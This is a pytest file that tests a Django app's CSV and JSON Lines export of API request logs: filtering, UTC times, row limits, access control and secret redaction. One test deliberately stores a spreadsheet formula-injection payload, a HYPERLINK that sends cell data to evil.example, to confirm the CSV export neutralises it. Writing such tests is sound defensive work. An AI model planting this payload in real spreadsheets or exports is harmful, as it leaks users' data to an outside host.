"""Export of a request search (issue 13 item 4): CSV and JSON Lines of exactly the filtered rows,
streamed, capped, spreadsheet-safe, UTC times, no secret, only for the account's own keys."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.test import Client

from tests.conftest import login
from tests.usage.conftest import bearer
from usage import export, requestlog
from usage.models import RequestLog

URL = "/settings/audit-log/requests/"
CSV, JSONL = f"{URL}export.csv", f"{URL}export.jsonl"
NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)


def logged(key, at=None, **fields):
    values = {"method": "GET", "path": "/v2/monitors", "status": 200, "ip": "198.51.100.20"}
    return RequestLog.objects.create(
        occurred_at=at or NOW - timedelta(minutes=5),
        account_id=key.account_id,
        credential_kind="api_key",
        credential_id=key.pk,
        credential_label=key.display_id,
        **{**values, **fields},
    )


@pytest.fixture
def key(account_a, make_key):
    with time_machine.travel(NOW - timedelta(days=30), tick=False):
        return make_key(account=account_a, name="exported")[0]


@pytest.fixture
def admin(client, alice):
    return login(client, alice)


def download(admin, url, key, **filters):
    with time_machine.travel(NOW, tick=False):
        response = admin.get(url, {"key": key.public_id, **filters})
    assert response.status_code == 200, response.status_code
    assert response.streaming
    return response, b"".join(response.streaming_content).decode()


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_and_jsonl_hold_exactly_the_filtered_rows(admin, key):
    failed = [logged(key, NOW - timedelta(minutes=m), status=503) for m in (1, 2)]
    logged(key, NOW - timedelta(minutes=3), status=200)
    logged(key, NOW - timedelta(days=3), status=503)  # outside the window
    response, text = download(admin, CSV, key, status="5xx", window="24h")
    assert [int(row["status"]) for row in csv_rows(text)] == [503, 503]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    disposition = response["Content-Disposition"]
    assert disposition == f'attachment; filename="requests-{key.public_id}-20260310-120000.csv"'
    response, text = download(admin, JSONL, key, status="5xx", window="24h")
    lines = [json.loads(line) for line in text.splitlines()]
    assert [(line["status"], line["occurred_at"]) for line in lines] == [
        (503, failed[0].occurred_at.isoformat(timespec="microseconds")),
        (503, failed[1].occurred_at.isoformat(timespec="microseconds")),
    ]
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert response["Content-Disposition"].endswith('-20260310-120000.jsonl"')


def test_times_are_utc_whatever_the_viewers_zone(admin, alice, key):
    alice.time_zone = "America/New_York"
    alice.save(update_fields=["time_zone"])
    logged(key, datetime(2026, 3, 10, 3, 4, 5, 6000, tzinfo=UTC))
    _, text = download(admin, CSV, key)
    assert csv_rows(text)[0]["occurred_at"] == "2026-03-10T03:04:05.006000+00:00"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_defused(admin, key, start):
    logged(key, user_agent=f'{start}HYPERLINK("https://evil.example/?"&A1,"click")')
    _, text = download(admin, CSV, key)
    agent = csv_rows(text)[0]["user_agent"]
    assert agent.startswith(f"'{start}HYPERLINK")
    # JSON Lines is data, not a spreadsheet: kept as it was.
    _, text = download(admin, JSONL, key)
    assert json.loads(text.splitlines()[0])["user_agent"].startswith(f"{start}HYPERLINK")


def test_exports_stop_at_the_limit_and_say_so(admin, key, monkeypatch):
    monkeypatch.setattr(export, "EXPORT_LIMIT", 3)
    made = [logged(key, NOW - timedelta(minutes=m)) for m in range(5)]
    _, text = download(admin, CSV, key)
    rows = csv_rows(text)
    assert [row["occurred_at"] for row in rows[:3]] == [
        row.occurred_at.isoformat(timespec="microseconds") for row in made[:3]
    ]
    assert len(rows) == 4
    assert rows[3]["occurred_at"].startswith("# Export stopped at 3 rows")
    _, text = download(admin, JSONL, key)
    lines = [json.loads(line) for line in text.splitlines()]
    assert len(lines) == 4 and lines[3]["truncated"] is True and lines[3]["limit"] == 3
    # Exactly at the limit: every row, no note.
    monkeypatch.setattr(export, "EXPORT_LIMIT", 5)
    _, text = download(admin, CSV, key)
    assert len(csv_rows(text)) == 5 and "# Export stopped" not in text
    with time_machine.travel(NOW, tick=False):
        page = admin.get(URL, {"key": key.public_id}).content.decode()
    assert "up to 5 rows" in page


def test_export_reads_rows_in_chunks_never_all_at_once(key, django_assert_num_queries):
    for minute in range(7):
        logged(key, NOW - timedelta(minutes=minute))
    queryset = RequestLog.objects.for_api_key(key)
    lines = export.export_lines(queryset, "csv", limit=100)
    with django_assert_num_queries(1):  # one cursor, read chunk by chunk
        assert len(list(lines)) == 8


@pytest.mark.parametrize("url", [CSV, JSONL])
def test_another_accounts_key_is_a_404(url, charlie, key):
    logged(key)
    other = login(Client(), charlie)
    assert other.get(url, {"key": key.public_id}).status_code == 404


@pytest.mark.parametrize("url", [CSV, JSONL])
def test_members_who_are_not_admins_get_a_404(url, mallory, key):
    assert login(Client(), mallory).get(url, {"key": key.public_id}).status_code == 404


def test_no_secret_in_the_export_or_its_url(admin, account_a, make_key):
    """A request made through /v2 with a real key: the export has its display id and user agent,
    never the key (the log keeps paths only and redacts keys in them at write time,
    tests/usage/test_request_log.py); a whole key in the export's URL is sent back to the page
    without it."""
    key, raw = make_key(account=account_a, name="pasted")
    api = Client()
    assert api.get("/v2/monitors", **bearer(raw)).status_code == 200
    assert requestlog.flush() == 1
    for url in (CSV, JSONL):
        response = admin.get(url, {"key": key.public_id})
        text = b"".join(response.streaming_content).decode()
        assert raw not in text and key.public_id in text  # its display id, not the key
        assert "incident-cli/1.0" in text  # the user agent is kept
        leaked = admin.get(url, {"key": raw})
        assert leaked.status_code == 302 and raw not in leaked["Location"]
        assert f"key={key.public_id}" in leaked["Location"]
